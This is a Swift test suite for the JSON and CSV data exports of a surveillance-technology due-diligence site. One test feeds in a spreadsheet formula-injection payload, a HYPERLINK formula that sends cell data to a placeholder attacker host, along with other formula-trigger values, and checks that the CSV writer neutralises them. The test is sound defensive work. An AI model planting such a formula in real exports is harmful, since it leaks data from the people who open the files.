@testable import DiligenceContent
@testable import DiligenceDiagnostics
@testable import DiligenceGraph
@testable import DiligenceKit
@testable import DiligenceRender
@testable import DiligenceSupport
@testable import DiligenceTemplate
import Foundation
import XCTest

/// `data/`: the knowledge base as JSON and CSV (docs/data-export.md). The
/// files must parse back, say what the pages say (read from the pages'
/// HTML, not through the export's code), and keep a spreadsheet from running
/// a text as a formula.
final class DataExportTests: XCTestCase {
    static let csvFiles = ["countries", "factors", "measures", "products", "matrix"]

    // MARK: Helpers

    /// The sample content built into a temporary folder.
    func buildSample() throws -> String {
        let output = NSTemporaryDirectory() + "diligence-export-" + UUID().uuidString
        let options = BuildOptions(content: TestSite.repository.appendingPathComponent("content").path,
                                   templates: TestSite.templates, output: output, today: TestSite.today)
        let report = SiteBuilder(options: options).build()
        XCTAssertFalse(report.diagnostics.hasErrors, "\(report.diagnostics)")
        return output
    }

    func json(_ folder: String) throws -> [String: Any] {
        let data = try Data(contentsOf: URL(fileURLWithPath: folder + "/data/diligence.json"))
        return try XCTUnwrap(JSONSerialization.jsonObject(with: data) as? [String: Any])
    }

    /// An RFC 4180 reader, written here so the test does not read the files
    /// with the code that wrote them: fields split by commas, rows by CRLF,
    /// a quoted field may hold commas, CR, LF and doubled quotes. The file
    /// must start with a UTF-8 byte-order mark; every row must be as wide as
    /// the header. Returns the rows as header → value.
    func readCSV(_ path: String, file: StaticString = #filePath, line: UInt = #line) throws -> (header: [String], rows: [[String: String]]) {
        let bytes = try [UInt8](Data(contentsOf: URL(fileURLWithPath: path)))
        XCTAssertEqual(Array(bytes.prefix(3)), [0xEF, 0xBB, 0xBF], "\(path) has no byte-order mark", file: file, line: line)
        let text = try XCTUnwrap(String(bytes: bytes.dropFirst(3), encoding: .utf8))
        let scalars = Array(text.unicodeScalars)
        var rows: [[String]] = []
        var row: [String] = []
        var field = String.UnicodeScalarView()
        var i = 0
        var quoted = false
        while i < scalars.count {
            let c = scalars[i]
            if quoted {
                if c == "\"" {
                    if i + 1 < scalars.count, scalars[i + 1] == "\"" { field.append("\""); i += 1 } else { quoted = false }
                } else {
                    field.append(c)
                }
            } else if c == "\"" {
                XCTAssertTrue(field.isEmpty, "a quote inside an unquoted field in \(path)", file: file, line: line)
                quoted = true
            } else if c == "," {
                row.append(String(field)); field = .init()
            } else if c == "\r" {
                XCTAssertTrue(i + 1 < scalars.count && scalars[i + 1] == "\n", "a bare CR in \(path)", file: file, line: line)
                row.append(String(field)); field = .init()
                rows.append(row); row = []
                i += 1
            } else {
                XCTAssertNotEqual(c, "\n", "a bare LF in \(path)", file: file, line: line)
                field.append(c)
            }
            i += 1
        }
        XCTAssertFalse(quoted, "an unclosed quote in \(path)", file: file, line: line)
        XCTAssertTrue(row.isEmpty && field.isEmpty, "the last row of \(path) does not end in CRLF", file: file, line: line)
        let header = try XCTUnwrap(rows.first)
        for r in rows where r.count != header.count { XCTFail("a row of \(r.count) fields under \(header.count) headers in \(path)", file: file, line: line) }
        return (header, rows.dropFirst().map { Dictionary(uniqueKeysWithValues: zip(header, $0)) })
    }

    /// What an HTML text node or attribute says.
    func unescape(_ html: String) -> String {
        html.replacingOccurrences(of: "&lt;", with: "<").replacingOccurrences(of: "&gt;", with: ">")
            .replacingOccurrences(of: "&quot;", with: "\"").replacingOccurrences(of: "&#39;", with: "'")
            .replacingOccurrences(of: "&amp;", with: "&")
    }

    func matches(_ pattern: String, in text: String) -> [[String]] {
        let regex = try! NSRegularExpression(pattern: pattern, options: [.dotMatchesLineSeparators])
        return regex.matches(in: text, range: NSRange(text.startIndex..., in: text)).map { m in
            (1..<m.numberOfRanges).map { Range(m.range(at: $0), in: text).map { String(text[$0]) } ?? "" }
        }
    }

    // MARK: JSON

    func testTheJSONHasTheDocumentedFieldsAndVersionAndItsSchemaIsPublished() throws {
        let output = try buildSample()
        defer { try? FileManager.default.removeItem(atPath: output) }
        let export = try json(output)
        XCTAssertEqual(export["schema"] as? String, "diligence-export")
        XCTAssertEqual(export["version"] as? Int, 1)
        XCTAssertEqual(export["title"] as? String, "Surveillance Technology Due Diligence")
        let schema = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: output + "/data/diligence.schema.json"))) as? [String: Any])
        let required = try XCTUnwrap(schema["required"] as? [String])
        XCTAssertEqual(Set(export.keys), Set(required))
        // Every object's keys are among its definition's properties, and its
        // required ones are there.
        let defs = try XCTUnwrap(schema["$defs"] as? [String: [String: Any]])
        func check(_ objects: Any?, against definition: [String: Any], _ what: String) {
            guard let objects = objects as? [[String: Any]] else { return XCTFail("\(what) is not a list of objects") }
            let properties = Set((definition["properties"] as? [String: Any])?.keys.map { $0 } ?? [])
            let required = Set(definition["required"] as? [String] ?? [])
            for object in objects {
                XCTAssertTrue(Set(object.keys).isSubset(of: properties), "\(what): \(Set(object.keys).subtracting(properties))")
                XCTAssertTrue(required.isSubset(of: Set(object.keys)), "\(what) lacks \(required.subtracting(object.keys))")
            }
        }
        for (field, definition) in [("countries", "country"), ("products", "product"), ("guidance", "step"), ("matrix", "cell")] {
            check(export[field], against: try XCTUnwrap(defs[definition]), field)
            XCTAssertFalse((export[field] as? [Any] ?? []).isEmpty, field)
        }
        // The committed schema is the one the build publishes.
        let committed = try String(contentsOf: TestSite.repository.appendingPathComponent("schemas/" + DataExportSchema.file), encoding: .utf8)
        XCTAssertEqual(committed, DataExportSchema.schema().rendered(), "schemas/data-export.schema.json is stale: run 'swift run diligence schema'")
        XCTAssertEqual(try String(contentsOfFile: output + "/data/diligence.schema.json", encoding: .utf8), committed)
    }

    /// Each country's risk label, factor statuses and measure sources in the
    /// export are what its page shows.
    func testCountriesInTheExportSayWhatTheirPagesShow() throws {
        let output = try buildSample()
        defer { try? FileManager.default.removeItem(atPath: output) }
        let countries = try XCTUnwrap(json(output)["countries"] as? [[String: Any]])
        XCTAssertEqual(countries.count, 35)
        var measuresChecked = 0
        for country in countries {
            let id = try XCTUnwrap(country["id"] as? String)
            let url = try XCTUnwrap(country["url"] as? String)
            XCTAssertEqual(url, "countries/\(id).html")
            let page = try String(contentsOfFile: output + "/" + url, encoding: .utf8)
            // The source list's entries, as links: #source-N → where it points.
            var entries: [String: String] = [:]
            for m in matches(#"<li id="(source-[0-9]+)"><a href="([^"]*)""#, in: page) { entries["#" + m[0]] = unescape(m[1]) }
            func resolved(_ href: String) -> String? { href.hasPrefix("#source-") ? entries[href] : href }

            let risk = try XCTUnwrap(country["risk"] as? [String: Any])
            let shown = matches(#"<dt>Overall risk</dt><dd><span class="risk [^"]*">([^<]*)</span>"#, in: page).first?.first
            let label = try XCTUnwrap(risk["label"] as? String)
            XCTAssertEqual(shown.map(unescape), risk["id"] as? String == "unknown" ? label : label + " risk", id)

            let rows = matches(#"<tr class="status-[a-z]+"><th scope="row">([^<]*)</th><td><span class="status">([^<]*)</span></td><td>.*?</td><td>(?:<a href="([^"]*)">)?"#, in: page)
            let factors = try XCTUnwrap(country["factors"] as? [[String: Any]])
            XCTAssertEqual(rows.count, factors.count, id)
            for (row, factor) in zip(rows, factors) {
                XCTAssertEqual(unescape(row[0]), factor["label"] as? String, id)
                XCTAssertEqual(unescape(row[1]), (factor["status"] as? [String: Any])?["label"] as? String, id)
                let source = factor["source"] as? [String: Any]
                XCTAssertEqual(row[2].isEmpty ? nil : resolved(unescape(row[2])), source?["url"] as? String, "\(id) \(row[0])")
            }

            let section = matches(#"<h2 id="measures">.*?</ul>"#, in: page).first.map { _ in
                page.components(separatedBy: #"<h2 id="measures">"#)[1].components(separatedBy: "</ul>")[0]
            } ?? ""
            let items = matches(#"<li><strong>([^<]*)</strong>:(.*?)</li>"#, in: section)
            let measures = try XCTUnwrap(country["measures"] as? [[String: Any]])
            XCTAssertEqual(items.count, measures.count, id)
            for (item, measure) in zip(items, measures) {
                XCTAssertEqual(unescape(item[0]), measure["authority"] as? String, id)
                let cited = matches(#"<a class="cite[^"]*" href="([^"]*)""#, in: item[1]).last?.first
                let source = measure["source"] as? [String: Any]
                XCTAssertEqual(cited.flatMap { resolved(unescape($0)) }, source?["url"] as? String, "\(id): \(item[0])")
                XCTAssertEqual(item[1].contains(#"class="restricts""#), measure["restrictsExports"] as? Bool, id)
                measuresChecked += 1
            }
        }
        XCTAssertGreaterThan(measuresChecked, 20)
    }

    // MARK: CSV

    func testTheCSVFilesParseBackAndMatchTheJSON() throws {
        let output = try buildSample()
        defer { try? FileManager.default.removeItem(atPath: output) }
        let export = try json(output)
        let countries = try XCTUnwrap(export["countries"] as? [[String: Any]])
        let products = try XCTUnwrap(export["products"] as? [[String: Any]])
        let matrix = try XCTUnwrap(export["matrix"] as? [[String: Any]])

        let countryRows = try readCSV(output + "/data/countries.csv")
        XCTAssertEqual(Array(countryRows.header.suffix(3)),
                       ["Lack of an independent judiciary", "Laws compelling companies to share sensitive data", "Record of human rights abuses"])
        XCTAssertEqual(countryRows.rows.map { $0["id"] }, countries.map { $0["id"] as? String })
        for (row, country) in zip(countryRows.rows, countries) {
            let risk = country["risk"] as? [String: Any]
            XCTAssertEqual(row["name"], country["title"] as? String)
            XCTAssertEqual(row["url"], country["url"] as? String)
            XCTAssertEqual(row["risk"], risk?["label"] as? String)
            XCTAssertEqual(row["risk_basis"], risk?["basis"] as? String ?? "")
            XCTAssertEqual(row["region_id"], (country["region"] as? [String: Any])?["id"] as? String)
            XCTAssertEqual(row["reviewed"], country["reviewed"] as? String)
            for factor in country["factors"] as? [[String: Any]] ?? [] {
                XCTAssertEqual(row[factor["label"] as? String ?? ""], (factor["status"] as? [String: Any])?["label"] as? String)
            }
        }

        let factorRows = try readCSV(output + "/data/factors.csv").rows
        let factors = countries.flatMap { c in (c["factors"] as? [[String: Any]] ?? []).map { (c, $0) } }
        XCTAssertEqual(factorRows.count, factors.count)
        for (row, (country, factor)) in zip(factorRows, factors) {
            XCTAssertEqual(row["country_id"], country["id"] as? String)
            XCTAssertEqual(row["factor_id"], factor["id"] as? String)
            XCTAssertEqual(row["status_id"], (factor["status"] as? [String: Any])?["id"] as? String)
            XCTAssertEqual(row["note"], factor["note"] as? String ?? "")
            XCTAssertEqual(row["source_url"], (factor["source"] as? [String: Any])?["url"] as? String ?? "")
        }

        let measureRows = try readCSV(output + "/data/measures.csv").rows
        let measures = countries.flatMap { c in (c["measures"] as? [[String: Any]] ?? []).map { (c, $0) } }
        XCTAssertEqual(measureRows.count, measures.count)
        for (row, (country, measure)) in zip(measureRows, measures) {
            XCTAssertEqual(row["country_id"], country["id"] as? String)
            XCTAssertEqual(row["authority"], measure["authority"] as? String)
            XCTAssertEqual(row["measure"], measure["text"] as? String)
            XCTAssertEqual(row["date"], measure["date"] as? String ?? "")
            XCTAssertEqual(row["restricts_exports"], measure["restrictsExports"] as? Bool == true ? "yes" : "no")
            XCTAssertEqual(row["source_title"], (measure["source"] as? [String: Any])?["title"] as? String ?? "")
            XCTAssertEqual(row["source_url"], (measure["source"] as? [String: Any])?["url"] as? String ?? "")
        }

        let productRows = try readCSV(output + "/data/products.csv").rows
        XCTAssertEqual(productRows.map { $0["id"] }, products.map { $0["id"] as? String })
        for (row, product) in zip(productRows, products) {
            XCTAssertEqual(row["name"], product["title"] as? String)
            XCTAssertEqual(row["risk_id"], (product["risk"] as? [String: Any])?["id"] as? String)
            XCTAssertEqual(row["red_flags"], (product["redFlags"] as? [String])?.joined(separator: "\n"))
            XCTAssertEqual(row["safeguards"], (product["safeguards"] as? [String])?.joined(separator: "\n"))
            XCTAssertEqual(row["countries_of_concern"], (product["countries"] as? [String])?.map { $0.uppercased() }.joined(separator: "; "))
        }
        XCTAssertTrue(productRows.contains { $0["safeguards"]?.contains("\n") == true }, "no multi-line field was read back")

        // One row per concern in a cell, one per empty cell.
        let matrixRows = try readCSV(output + "/data/matrix.csv").rows
        let expected = matrix.flatMap { cell -> [(String, String, String)] in
            let concerns = cell["concerns"] as? [[String: Any]] ?? []
            let key = (cell["country"] as? String ?? "", cell["category"] as? String ?? "")
            return concerns.isEmpty ? [(key.0, key.1, "no")] : concerns.map { _ in (key.0, key.1, "yes") }
        }
        XCTAssertEqual(matrixRows.map { "\($0["country_id"]!) \($0["category_id"]!) \($0["concern"]!)" }, expected.map { "\($0.0) \($0.1) \($0.2)" })
        // As many marked cells as the matrix page counts.
        let marked = Set(matrixRows.filter { $0["concern"] == "yes" }.map { $0["country_id"]! + "/" + $0["category_id"]! })
        let page = try String(contentsOfFile: output + "/matrix.html", encoding: .utf8)
        XCTAssertTrue(page.contains(#"<p class="matrix-count">\#(marked.count) cells with a documented concern.</p>"#))
        XCTAssertEqual(page.components(separatedBy: #"<td class="concern">"#).count - 1, marked.count)
    }

    /// A text a spreadsheet would run as a formula gets a leading `'` in the
    /// CSV, and is kept as written in the JSON.
    func testFormulaTriggersAreNeutralisedInCSVAndKeptInJSON() throws {
        let hyperlink = #"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#
        let site = try TestSite(files: [
            "countries/cn.md": Pages.country(extra: """
            reviewed_by: "@team"
            factors:
              documented-abuses: {status: unknown, note: "+1 and more"}
            measures:
              - authority: '\(hyperlink)'
                measure: "-5 entities, then more"
                url: https://example.org/report
              - authority: "\\tTabbed authority"
                measure: "@SUM(A1:A9)"
                source: 1

            """),
        ])
        defer { site.remove() }
        let report = site.build()
        XCTAssertFalse(report.diagnostics.hasErrors, TestSite.lines(report, in: site).joined(separator: "\n"))
        let country = try XCTUnwrap((try json(site.output)["countries"] as? [[String: Any]])?.first)
        let measures = try XCTUnwrap(country["measures"] as? [[String: Any]])
        XCTAssertEqual(measures.map { $0["authority"] as? String }, [hyperlink, "\tTabbed authority"])
        XCTAssertEqual(measures.map { $0["text"] as? String }, ["-5 entities, then more", "@SUM(A1:A9)"])
        XCTAssertEqual(country["reviewedBy"] as? String, "@team")
        XCTAssertEqual((country["factors"] as? [[String: Any]])?.first?["note"] as? String, "+1 and more")

        let measureRows = try readCSV(site.output + "/data/measures.csv").rows
        XCTAssertEqual(measureRows.map { $0["authority"] }, ["'" + hyperlink, "'\tTabbed authority"])
        XCTAssertEqual(measureRows.map { $0["measure"] }, ["'-5 entities, then more", "'@SUM(A1:A9)"])
        XCTAssertEqual(try readCSV(site.output + "/data/countries.csv").rows.first?["reviewed_by"], "'@team")
        XCTAssertEqual(try readCSV(site.output + "/data/factors.csv").rows.first?["note"], "'+1 and more")
        // The raw bytes: the formula is quoted (it holds commas and quotes)
        // and starts with the quote mark.
        let raw = try site.outputText("data/measures.csv")
        XCTAssertTrue(raw.contains(#","'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","#), raw)
    }

    func testCSVTableQuotesAndNeutralisesFields() {
        XCTAssertEqual(CSVTable.field("plain text"), "plain text")
        XCTAssertEqual(CSVTable.field("a, b"), "\"a, b\"")
        XCTAssertEqual(CSVTable.field("say \"no\""), "\"say \"\"no\"\"\"")
        XCTAssertEqual(CSVTable.field("two\nlines"), "\"two\nlines\"")
        XCTAssertEqual(CSVTable.field("cr\r\nlf"), "\"cr\r\nlf\"")
        XCTAssertEqual(CSVTable.field(""), "")
        XCTAssertEqual(CSVTable.field("=1+2"), "'=1+2")
        XCTAssertEqual(CSVTable.field("+1"), "'+1")
        XCTAssertEqual(CSVTable.field("-1"), "'-1")
        XCTAssertEqual(CSVTable.field("@SUM(A1)"), "'@SUM(A1)")
        XCTAssertEqual(CSVTable.field("\tx"), "'\tx")
        XCTAssertEqual(CSVTable.field("\rx"), "\"'\rx\"")
        XCTAssertEqual(CSVTable.field("=A1,\"x\""), "\"'=A1,\"\"x\"\"\"")
        XCTAssertEqual(CSVTable.field("a=b"), "a=b", "only a leading trigger counts")
        XCTAssertEqual(CSVTable.field("'quoted"), "'quoted")
        var table = CSVTable(header: ["a", "b"])
        table.append(["1", "x,y"])
        table.append(["", "-"])
        XCTAssertEqual(table.bytes(), CSVTable.byteOrderMark + Array("a,b\r\n1,\"x,y\"\r\n,'-\r\n".utf8))
    }

    // MARK: Builds

    func testAnIncrementalBuildAfterAFactorEditRewritesTheExports() throws {
        let workspace = try IncrementalBuildTests.Workspace()
        defer { workspace.remove() }
        XCTAssertFalse(workspace.incremental().diagnostics.hasErrors)
        let before = try readCSV(workspace.output + "/data/factors.csv").rows
        XCTAssertEqual(before.first { $0["country_id"] == "cn" && $0["factor_id"] == "documented-abuses" }?["status_id"], "present")
        // A note edit: the rating rule still holds.
        try workspace.edit("countries/cn.md") {
            $0.replacingOccurrences(of: "records genocide and crimes against humanity in Xinjiang", with: "records genocide and crimes against humanity in Xinjiang (edited)")
        }
        let report = workspace.incremental()
        XCTAssertFalse(report.diagnostics.hasErrors, "\(report.diagnostics)")
        XCTAssertNil(report.fullBuildReason)
        let after = try readCSV(workspace.output + "/data/factors.csv").rows
        XCTAssertTrue(after.first { $0["country_id"] == "cn" && $0["factor_id"] == "documented-abuses" }?["note"]?.contains("(edited)") == true)
        let cn = (try json(workspace.output)["countries"] as? [[String: Any]])?.first { $0["id"] as? String == "cn" }
        let note = (cn?["factors"] as? [[String: Any]])?.first { $0["id"] as? String == "documented-abuses" }?["note"] as? String
        XCTAssertTrue(note?.contains("(edited)") == true, note ?? "no note")
        // And the same bytes as a full build.
        XCTAssertFalse(workspace.full().diagnostics.hasErrors)
        for file in ["diligence.json", "diligence.schema.json"] + Self.csvFiles.map({ $0 + ".csv" }) {
            XCTAssertEqual(FileManager.default.contents(atPath: workspace.output + "/data/" + file),
                           FileManager.default.contents(atPath: workspace.reference + "/data/" + file), file)
        }
    }

    func testTwoBuildsOfTheSameContentWriteTheSameBytes() throws {
        let first = try buildSample()
        let second = try buildSample()
        defer { for folder in [first, second] { try? FileManager.default.removeItem(atPath: folder) } }
        for file in ["diligence.json", "diligence.schema.json"] + Self.csvFiles.map({ $0 + ".csv" }) {
            let bytes = FileManager.default.contents(atPath: first + "/data/" + file)
            XCTAssertNotNil(bytes, file)
            XCTAssertEqual(bytes, FileManager.default.contents(atPath: second + "/data/" + file), file)
        }
    }

    func testHomeAndMatrixPagesLinkTheDownloadsRelatively() throws {
        let site = try TestSite(files: ["countries/cn.md": Pages.country()])
        defer { site.remove() }
        XCTAssertFalse(site.build().diagnostics.hasErrors)
        let home = try site.outputText("index.html")
        for file in ["diligence.json", "diligence.schema.json"] + Self.csvFiles.map({ $0 + ".csv" }) {
            XCTAssertTrue(home.contains(#"href="data/\#(file)""#), file)
            XCTAssertTrue(FileManager.default.fileExists(atPath: site.output + "/data/" + file), file)
        }
        let matrix = try site.outputText("matrix.html")
        XCTAssertTrue(matrix.contains(#"<a href="data/matrix.csv" type="text/csv">"#))
        XCTAssertTrue(matrix.contains(#"<a href="data/diligence.json" type="application/json">"#))
    }
}

/// The pieces an incremental build copies from the data files the last
/// build wrote (`KeptPieces`), and the splices it writes them as.
final class KeptPiecesTests: XCTestCase {
    /// An earlier file holding `bytes`, mapped (removed when the test ends).
    private func mapped(_ bytes: [UInt8]) throws -> MappedFile {
        let path = FileManager.default.temporaryDirectory.appendingPathComponent("diligence-splice-" + UUID().uuidString).path
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        addTeardownBlock { try? FileManager.default.removeItem(atPath: path) }
        return try XCTUnwrap(MappedFile(path))
    }

    /// Runs of the earlier file next to each other, with the same bytes
    /// between them, are one copy; the splice gives the bytes of the file
    /// written in full, and tells a file that did not change.
    func testASpliceJoinsNeighbouringRunsAndGivesTheFullBytes() throws {
        let old = Array(#"[{"id":"a"},{"id":"b"},{"id":"c"}]"#.utf8)
        let source = try mapped(old)
        var builder = ByteSplice.Builder(source: source)
        builder.bytes += Array("[".utf8)
        builder.keep(1..<11)
        builder.bytes += Array(",".utf8)
        builder.keep(12..<22)
        builder.bytes += Array(#",{"id":"C"}]"#.utf8)
        guard case .spliced(let splice) = builder.contents() else { return XCTFail("nothing kept") }
        XCTAssertTrue(splice.source === source)
        XCTAssertEqual(splice.pieces, [.bytes(Array("[".utf8)), .kept(1..<22), .bytes(Array(#",{"id":"C"}]"#.utf8))])
        XCTAssertEqual(String(decoding: splice.bytes(), as: UTF8.self), #"[{"id":"a"},{"id":"b"},{"id":"C"}]"#)
        XCTAssertEqual(splice.count, old.count)
        XCTAssertFalse(splice.isUnchanged, "one byte differs")

        var same = ByteSplice.Builder(source: source)
        same.bytes += Array("[".utf8)
        same.keep(1..<22)
        same.bytes += Array(#",{"id":"c"}]"#.utf8)
        guard case .spliced(let unchanged) = same.contents() else { return XCTFail("nothing kept") }
        XCTAssertTrue(unchanged.isUnchanged)

        var none = ByteSplice.Builder(source: source)
        none.bytes += Array("new".utf8)
        XCTAssertEqual(none.contents(), .bytes(Array("new".utf8)), "nothing kept: the bytes alone")
    }

    /// A CSV table with kept rows: a splice with each row's place, which
    /// gives the bytes of the table written in full.
    func testCSVRowsKeptFromAnEarlierTable() throws {
        var full = CSVTable(header: ["id", "notes"])
        full.append(["a", "one\r\ntwo, \"quoted\""])
        full.append(["b", "x"])
        full.append(["c", "y"])
        let (written, bounds) = full.contents()
        guard case .bytes(let old) = written else { return XCTFail("a table with no kept rows is its bytes") }
        XCTAssertEqual(bounds.count, 4)
        XCTAssertEqual(String(decoding: old[bounds[1]..<bounds[2]], as: UTF8.self), "b,x\r\n")
        var edited = CSVTable(header: ["id", "notes"])
        edited.append(kept: bounds[0]..<bounds[1])
        edited.append(kept: bounds[1]..<bounds[2])
        edited.append(["c", "z"])
        let (contents, newBounds) = edited.contents(source: try mapped(old))
        guard case .spliced(let splice) = contents else { return XCTFail("rows were kept") }
        XCTAssertEqual(splice.pieces.filter { if case .kept = $0 { true } else { false } }.count, 1, "two kept rows, one run")
        var expected = CSVTable(header: ["id", "notes"])
        expected.append(["a", "one\r\ntwo, \"quoted\""])
        expected.append(["b", "x"])
        expected.append(["c", "z"])
        XCTAssertEqual(splice.bytes(), expected.bytes())
        XCTAssertEqual(newBounds, bounds.dropLast() + [bounds[2] + 5])
    }

    /// Pieces are found by the rows written with the file and checked
    /// against it: a file of another size, or a piece whose bytes no longer
    /// look like its object or row, gives none.
    /// The JSON export's matrix is copied from the published file when
    /// nothing the matrix shows changed, and read from the pages again when
    /// something did. The file is first altered inside the matrix (same
    /// size, so every check on the kept pieces still passes): a copy keeps
    /// the alteration, a matrix read again drops it.
    func testTheExportKeepsItsMatrixUnlessWhatTheMatrixShowsChanged() throws {
        let workspace = try IncrementalBuildTests.Workspace()
        defer { workspace.remove() }
        XCTAssertFalse(workspace.incremental().diagnostics.hasErrors)
        let path = workspace.output + "/data/diligence.json"
        let published = try String(contentsOfFile: path, encoding: .utf8)
        let matrixStart = try XCTUnwrap(published.range(of: #","matrix":["#)).upperBound
        let marker = "Uyghurs"
        let altered = try XCTUnwrap(published.range(of: marker, range: matrixStart..<published.endIndex), "the matrix cites the OFAC listing")
        try published.replacingCharacters(in: altered, with: "UYGHURS").write(toFile: path, atomically: false, encoding: .utf8)

        // A factor note: not in the matrix.
        try workspace.edit("countries/cn.md") {
            $0.replacingOccurrences(of: "records genocide and crimes against humanity in Xinjiang", with: "records genocide and crimes against humanity in Xinjiang (edited)")
        }
        var report = workspace.incremental()
        XCTAssertFalse(report.diagnostics.hasErrors, "\(report.diagnostics)")
        XCTAssertNil(report.fullBuildReason)
        var written = try String(contentsOfFile: path, encoding: .utf8)
        XCTAssertTrue(written.contains("(edited)"), "the country's object is written again")
        XCTAssertTrue(written[matrixStart...].contains("UYGHURS"), "the matrix is copied as it was published")

        // A concern's basis: in the matrix.
        try workspace.edit("countries/cn.md") {
            $0.replacingOccurrences(of: "with a particular focus on identifying Uyghurs.", with: "with a particular focus on identifying Uyghurs (edited).")
        }
        report = workspace.incremental()
        XCTAssertFalse(report.diagnostics.hasErrors, "\(report.diagnostics)")
        written = try String(contentsOfFile: path, encoding: .utf8)
        XCTAssertFalse(written.contains("UYGHURS"), "the matrix is read from the pages again")
        let export = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: path))) as? [String: Any])
        let cells = try XCTUnwrap(export["matrix"] as? [[String: Any]])
        let bases = cells.filter { $0["country"] as? String == "cn" }.flatMap { ($0["concerns"] as? [[String: Any]]) ?? [] }.compactMap { $0["basis"] as? String }
        XCTAssertTrue(bases.contains { $0.hasSuffix("identifying Uyghurs (edited).") }, "\(bases)")
        XCTAssertFalse(workspace.full().diagnostics.hasErrors)
        XCTAssertEqual(FileManager.default.contents(atPath: path), FileManager.default.contents(atPath: workspace.reference + "/data/diligence.json"))

        // A factor note again, after the matrix was read anew: copied, and the same bytes as a full build.
        try workspace.edit("countries/cn.md") { $0.replacingOccurrences(of: "Xinjiang (edited)", with: "Xinjiang (edited twice)") }
        XCTAssertNil(workspace.incremental().fullBuildReason)
        XCTAssertFalse(workspace.full().diagnostics.hasErrors)
        XCTAssertEqual(FileManager.default.contents(atPath: path), FileManager.default.contents(atPath: workspace.reference + "/data/diligence.json"))
    }

    func testPiecesAreCheckedAgainstTheFileTheyAreIn() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("diligence-pieces-" + UUID().uuidString).path
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let text = #"{"countries":[{"id":"cn","x":"}"},{"id":"ir"}],"products":[{"id":"spy"}]}"#
        let file = Array(text.utf8)
        func row(_ id: PageID, _ object: String) throws -> TemplateRow {
            let range = try XCTUnwrap(text.range(of: object))
            return TemplateRow(key: KeptPieces.key(id), start: text.utf8.distance(from: text.startIndex, to: range.lowerBound),
                               end: text.utf8.distance(from: text.startIndex, to: range.upperBound))
        }
        let cn = PageID(.country, "cn"), ir = PageID(.country, "ir"), spy = PageID(.product, "spy")
        let rows = [try row(cn, #"{"id":"cn","x":"}"}"#), try row(ir, #"{"id":"ir"}"#), try row(spy, #"{"id":"spy"}"#)]
        let path = folder + "/data.json"
        try Data(file).write(to: URL(fileURLWithPath: path))
        let kept = try XCTUnwrap(KeptPieces(ids: [cn, spy], rows: rows, size: file.count, path: path, format: .objectsWithIDFirst))
        XCTAssertEqual(kept.objects.keys.sorted { $0.slug < $1.slug }, [cn, spy], "only the pages asked for")
        XCTAssertEqual(kept.objects[spy].map { String(decoding: file[$0], as: UTF8.self) }, #"{"id":"spy"}"#)
        XCTAssertNil(KeptPieces(ids: [cn], rows: rows, size: file.count + 1, path: path, format: .objects), "another size")
        XCTAssertNil(KeptPieces(ids: [cn], rows: rows, size: file.count, path: folder + "/missing", format: .objects))
        XCTAssertNil(KeptPieces(ids: [cn], rows: [], size: file.count, path: path, format: .objects), "no rows kept")
        // The same size, another id at the place of `ir`.
        try Data(text.replacingOccurrences(of: #""ir""#, with: #""iq""#).utf8).write(to: URL(fileURLWithPath: path))
        XCTAssertNotNil(KeptPieces(ids: [ir], rows: rows, size: file.count, path: path, format: .objects), "braces alone still fit")
        XCTAssertNil(KeptPieces(ids: [ir], rows: rows, size: file.count, path: path, format: .objectsWithIDFirst))
        // A boundary moved: the object no longer starts where its row says.
        try Data(text.replacingOccurrences(of: #",{"id":"ir"}"#, with: #"{"id":"ir"},"#).utf8).write(to: URL(fileURLWithPath: path))
        XCTAssertNil(KeptPieces(ids: [ir], rows: rows, size: file.count, path: path, format: .objects))
    }

    func testTheMatrixRowIsKeptOnlyWhenAskedForAndWhereTheExportWritesIt() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("diligence-pieces-" + UUID().uuidString).path
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let text = #"{"products":[{"id":"spy"}],"matrix":[{"country":"cn"}]}"#
        let spy = PageID(.product, "spy")
        func place(_ piece: String, in text: String) throws -> Range<Int> {
            let range = try XCTUnwrap(text.range(of: piece))
            let start = text.utf8.distance(from: text.startIndex, to: range.lowerBound)
            return start..<(start + piece.utf8.count)
        }
        let object = try place(#"{"id":"spy"}"#, in: text), matrix = try place(#"[{"country":"cn"}]"#, in: text)
        let rows = [TemplateRow(key: KeptPieces.key(spy), start: object.lowerBound, end: object.upperBound),
                    TemplateRow(key: KeptPieces.matrixKey, start: matrix.lowerBound, end: matrix.upperBound)]
        let path = folder + "/diligence.json"
        try Data(text.utf8).write(to: URL(fileURLWithPath: path))
        let size = text.utf8.count
        XCTAssertEqual(KeptPieces(ids: [spy], rows: rows, size: size, path: path, format: .objectsWithIDFirst, matrixUnchanged: true)?.matrix, matrix)
        XCTAssertNil(KeptPieces(ids: [spy], rows: rows, size: size, path: path, format: .objectsWithIDFirst)?.matrix, "not asked for")
        XCTAssertNil(KeptPieces(ids: [spy], rows: rows, size: size, path: path, format: .objects, matrixUnchanged: true)?.matrix, "not the export")
        XCTAssertNotNil(KeptPieces(ids: [spy], rows: Array(rows.prefix(1)), size: size, path: path, format: .objectsWithIDFirst,
                                   matrixUnchanged: true), "no matrix row: the objects are still kept")
        // The same size, the matrix one byte later: its row no longer fits, and the matrix is read again.
        let moved = text.replacingOccurrences(of: #""matrix":[{"country":"cn"}]"#, with: #""matrix": [{"country":"cn"]"#)
        XCTAssertEqual(moved.utf8.count, size)
        try Data(moved.utf8).write(to: URL(fileURLWithPath: path))
        XCTAssertNil(KeptPieces(ids: [spy], rows: rows, size: size, path: path, format: .objectsWithIDFirst, matrixUnchanged: true)?.matrix)
    }
}
